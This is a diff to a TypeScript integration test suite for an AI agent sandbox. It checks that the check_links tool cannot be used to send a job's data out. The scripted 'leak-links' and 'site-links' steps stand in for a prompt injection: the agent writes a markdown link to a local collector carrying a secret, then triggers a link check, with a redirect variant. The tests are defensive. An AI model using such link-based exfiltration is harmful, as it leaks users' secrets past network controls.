@@ -1,6 +1,7 @@
 import { execFile } from 'node:child_process';
 import { existsSync } from 'node:fs';
 import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
+import http from 'node:http';
 import net from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
@@ -35,6 +36,14 @@ let workerHome: string;
 const adminKeys: Record<string, string> = {};
 let listener: net.Server;
 let listenerConnections = 0;
+/** Where an injected link would send a job's data: on 127.0.0.2, a network the operator lists in DOCENT_ALLOW_PRIVATE_NETWORKS. */
+let collector: http.Server;
+const collected: string[] = [];
+/** A docs site the operator lets sandboxes reach (DOCENT_SANDBOX_EGRESS_ALLOW localhost:<port>). */
+let site: http.Server;
+const siteAsked: string[] = [];
+const collectorUrl = (p: string) => `http://127.0.0.2:${(collector.address() as net.AddressInfo).port}${p}`;
+const siteUrl = (p: string) => `http://localhost:${(site.address() as net.AddressInfo).port}${p}`;
 /** The lab's relay to the internet, when its resolver answers with a documentation address (test/support/lab-internet.ts). */
 let internet: string[] = [];
 
@@ -43,9 +52,11 @@ const firstUser = (req: ChatRequest) => JSON.stringify(req.messages.find((m) => 
 const toolReplies = (req: ChatRequest) => req.messages.filter((m) => m.role === 'tool').length;
 const instructionOf = (req: ChatRequest) => /Instruction: ([^"\\]*)/.exec(firstUser(req))?.[1] ?? '';
 
-/** Each instruction's tool calls, made in one step; then a title and summary. */
+/** Each instruction's tool calls, made in one step (or one a step, for `steps`); then a title and summary. */
 function script(req: ChatRequest): ScriptedTurn {
   const instruction = instructionOf(req);
+  const stepped = steps[instruction.split(' ')[0]!]?.();
+  if (stepped) return toolReplies(req) < stepped.length ? { toolCalls: [stepped[toolReplies(req)]!] } : { text: `Done: ${instruction}\n\nWhat was asked.` };
   const calls = plans[instruction.split(' ')[0]!]?.();
   if (!calls || toolReplies(req) > 0) return { text: `Done: ${instruction}\n\nWhat was asked.` };
   return { toolCalls: calls };
@@ -83,6 +94,25 @@ const plans: Record<string, () => Array<{ name: string; args: unknown }>> = {
   'fix-typo': () => [{ name: 'edit_file', args: { path: 'README.md', old: 'wrold', new: 'world' } }],
 };
 
+/** Instructions whose tool calls must run one after another: a page written, then its links checked. */
+const steps: Record<string, () => Array<{ name: string; args: unknown }>> = {
+  // A prompt injection's way out: a page whose link carries the job's data, then a link check to send it.
+  'leak-links': () => [
+    { name: 'write_file', args: { path: 'docs/leak.md', content: `# Leak\n\n[report](${collectorUrl('/collect?d=s3cr3t')}) and [old](./missing.md)\n` } },
+    { name: 'check_links', args: { folder: 'docs' } },
+  ],
+  'site-links': () => [
+    {
+      name: 'write_file',
+      args: {
+        path: 'docs/links.md',
+        content: `# Links\n\n[ok](${siteUrl('/ok')}), [gone](${siteUrl('/gone')}), [away](${siteUrl('/away')}) and [direct](${collectorUrl('/collect?d=direct')})\n`,
+      },
+    },
+    { name: 'check_links', args: { folder: 'docs' } },
+  ],
+};
+
 function workerEnv(): Record<string, string> {
   return {
     ...agentWorkerEnv({ gw, model, github, git, token, workspaceDir }),
@@ -95,7 +125,9 @@ function workerEnv(): Record<string, string> {
     DOCENT_SANDBOX_MAX_FILE_MB: '8',
     DOCENT_SANDBOX_MAX_DISK_MB: '48',
     DOCENT_SANDBOX_MEMORY_MB: '512',
-    ...(internet.length > 0 ? { DOCENT_SANDBOX_EGRESS_ALLOW: internet.join(',') } : {}),
+    DOCENT_SANDBOX_EGRESS_ALLOW: [...internet, `localhost:${(site.address() as net.AddressInfo).port}`].join(','),
+    // Outbound calls outside the sandbox (webhooks, crawls) may reach the collector's network: check_links must not.
+    DOCENT_ALLOW_PRIVATE_NETWORKS: '127.0.0.2/32',
   };
 }
 
@@ -182,6 +214,18 @@ beforeAll(async () => {
     s.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nhi');
   });
   await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
+  collector = http.createServer((req, res) => {
+    collected.push(req.url ?? '');
+    res.end('ok');
+  });
+  await new Promise<void>((r) => collector.listen(0, '127.0.0.2', r));
+  site = http.createServer((req, res) => {
+    siteAsked.push(req.url ?? '');
+    if (req.url === '/gone') res.writeHead(404).end();
+    else if (req.url === '/away') res.writeHead(302, { location: collectorUrl('/collect?d=redirected') }).end();
+    else res.end('ok');
+  });
+  await new Promise<void>((r) => site.listen(0, '127.0.0.1', r));
   git = await startGitServer(token);
   github = await startGitHubDouble({ token, ...backedBy(git) });
   model = await startScriptedModel(script);
@@ -260,6 +304,8 @@ beforeAll(async () => {
     cacheKeys: ['package-lock.json'],
     maintenance: ['test -d node_modules/is-number && echo maintained'],
   });
+  await project('links-off', 'widgets');
+  await project('links-on', 'widgets', { network: true, allowHosts: ['localhost'] });
   // Not the configured git host: a loopback address reached by another name.
   await project('elsewhere', 'widgets', undefined, `${git.url.replace('127.0.0.1', 'localhost')}/acme/widgets.git`);
   worker = await startWorkerProcess(workerEnv());
@@ -268,7 +314,7 @@ beforeAll(async () => {
 afterAll(async () => {
   await worker?.stop('SIGKILL');
   await gw?.stop();
-  await Promise.all([git?.close(), github?.close(), model?.close(), new Promise((r) => listener?.close(r))]);
+  await Promise.all([git?.close(), github?.close(), model?.close(), new Promise((r) => listener?.close(r)), new Promise((r) => collector?.close(r)), new Promise((r) => site?.close(r))]);
   for (const dir of [workspaceDir, outside, workerHome]) if (dir) await rm(dir, { recursive: true, force: true });
 });
 
@@ -358,6 +404,42 @@ describe('network on', () => {
     expect(egress.find((e) => e.host === 'registry.npmjs.org').bytesIn).toBeGreaterThan(1000);
     expect(egress).toContainEqual(expect.objectContaining({ host: '127.0.0.1', port: 9200, method: 'GET', allowed: false, reason: expect.stringContaining('loopback') }));
     expect(egress.filter((e) => e.allowed === false).map((e) => e.port)).toEqual([9200, (listener.address() as net.AddressInfo).port]);
+  });
+});
+
+describe("check_links is one of the turn's network clients", () => {
+  it('with network off, a link written to carry data out is never asked, and the tool says the outside links are unchecked', async () => {
+    const job = await runJob('links-off', 'leak-links through a page');
+    expect(job.status).toBe('completed');
+    expect(collected).toEqual([]);
+    const seen = toolResultsFor('leak-links');
+    expect(seen).toContain('unchecked');
+    expect(seen).toContain(collectorUrl('/collect?d=s3cr3t'));
+    expect(seen).toContain("the project's network is off");
+    // The links inside the clone are still checked.
+    expect(seen).toContain('no file docs/missing.md');
+    const { events } = await readEventStream(`${gw.url}/v2/agent/links-off/job/${job.id}/events`, adminKeys['links-off']!);
+    expect(events.filter((e) => e.type === 'egress')).toEqual([]);
+  });
+
+  it('with network on, it asks the allowed host through the egress proxy, each connection an egress event, and follows no redirect elsewhere', async () => {
+    const job = await runJob('links-on', 'site-links in the docs');
+    expect(job.status).toBe('completed');
+    expect(siteAsked.sort()).toEqual(['/away', '/gone', '/ok']);
+    expect(collected).toEqual([]);
+    const seen = toolResultsFor('site-links');
+    expect(seen).toContain('answers 404');
+    expect(seen).toContain("127.0.0.2 is not in the project's allowed hosts");
+    const { events } = await readEventStream(`${gw.url}/v2/agent/links-on/job/${job.id}/events`, adminKeys['links-on']!);
+    const egress = events.filter((e) => e.type === 'egress').map((e) => e.data);
+    const sitePort = (site.address() as net.AddressInfo).port;
+    expect(egress.filter((e) => e.host === 'localhost').map((e) => [e.port, e.method, e.allowed])).toEqual([
+      [sitePort, 'CONNECT', true],
+      [sitePort, 'CONNECT', true],
+      [sitePort, 'CONNECT', true],
+    ]);
+    // The direct link and the redirect's target, both refused by the proxy before any byte reached the collector.
+    expect(egress.filter((e) => e.host === '127.0.0.2').map((e) => e.allowed)).toEqual([false, false]);
   });
 });
 
